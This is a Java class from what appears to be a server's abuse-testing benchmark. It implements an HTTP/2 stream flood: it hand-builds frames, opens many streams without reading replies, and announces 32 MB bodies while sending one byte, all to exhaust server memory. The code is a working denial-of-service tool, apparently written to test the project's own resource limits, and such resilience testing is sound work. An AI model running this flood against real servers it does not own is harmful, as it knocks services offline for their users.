package org.hashdb.bench.abuse;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;

/**
 * HTTP/2 (TLS, ALPN h2) connections that open streams as fast as the server reads them and
 * never read a frame: {@code GET /openapi.json} streams alternating with bulk streams that
 * announce a 32 MB body and send one byte. A server without stream, body and write budgets
 * keeps a response and a body buffer per stream.
 */
final class Http2StreamFlood extends ConnectionAttack {
  private static final byte[] PREFACE =
      "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
  private final WriterConnections conns;

  Http2StreamFlood(int connections) {
    this(connections, new WriterConnections());
  }

  private Http2StreamFlood(int connections, WriterConnections conns) {
    super("http2-stream-flood", connections, conns);
    this.conns = conns;
  }

  @Override
  void start(AbuseTarget t) throws Exception {
    if (!t.tls()) {
      throw new IllegalArgumentException("the HTTP/2 flood needs an https:// server");
    }
    for (int i = 0; i < size; i++) {
      Socket s;
      try {
        s = t.connect(4096, "h2");
      } catch (IOException e) {
        conns.refusedAtOnce();
        continue;
      }
      byte[] get = headers(t, "GET", "/openapi.json", null);
      byte[] post = headers(t, "POST", "/v1/lookup/bulk?type=sha256",
          Long.toString(TrickledBodies.ANNOUNCED));
      int[] stream = {1};
      boolean[] started = {false};
      conns.start(s, (sock, out) -> {
        if (!started[0]) {
          started[0] = true;
          out.write(PREFACE);
          frame(out, 4, 0, 0, new byte[0]); // SETTINGS, defaults
        }
        for (int k = 0; k < 64; k++) {
          int id = stream[0];
          stream[0] += 2;
          if (id % 4 == 1) {
            frame(out, 1, 0x5, id, get); // HEADERS, END_HEADERS | END_STREAM
          } else {
            frame(out, 1, 0x4, id, post); // HEADERS, END_HEADERS: a body follows...
            frame(out, 0, 0, id, new byte[1]); // ...one byte of it
          }
        }
        out.flush();
      }, "abuse-h2-" + i);
    }
  }

  /** A header block of literal fields without indexing (HPACK 6.2.2), no Huffman coding. */
  private static byte[] headers(AbuseTarget t, String method, String path, String length) {
    ByteArrayOutputStream b = new ByteArrayOutputStream();
    field(b, ":method", method);
    field(b, ":scheme", "https");
    field(b, ":path", path);
    field(b, ":authority", t.host());
    field(b, "authorization", "Bearer " + t.attackKey());
    if (length != null) {
      field(b, "content-type", "application/octet-stream");
      field(b, "content-length", length);
    }
    return b.toByteArray();
  }

  private static void field(ByteArrayOutputStream b, String name, String value) {
    b.write(0);
    string(b, name.getBytes(StandardCharsets.US_ASCII));
    string(b, value.getBytes(StandardCharsets.US_ASCII));
  }

  private static void string(ByteArrayOutputStream b, byte[] s) {
    int n = s.length; // 7-bit prefix integer (RFC 7541 5.1), Huffman bit clear
    if (n < 127) {
      b.write(n);
    } else {
      b.write(127);
      n -= 127;
      while (n >= 128) {
        b.write((n & 127) | 128);
        n >>>= 7;
      }
      b.write(n);
    }
    b.write(s, 0, s.length);
  }

  private static void frame(OutputStream out, int type, int flags, int stream, byte[] payload)
      throws IOException {
    int n = payload.length;
    out.write(new byte[] {(byte) (n >>> 16), (byte) (n >>> 8), (byte) n, (byte) type,
        (byte) flags, (byte) (stream >>> 24), (byte) (stream >>> 16), (byte) (stream >>> 8),
        (byte) stream});
    out.write(payload);
  }
}
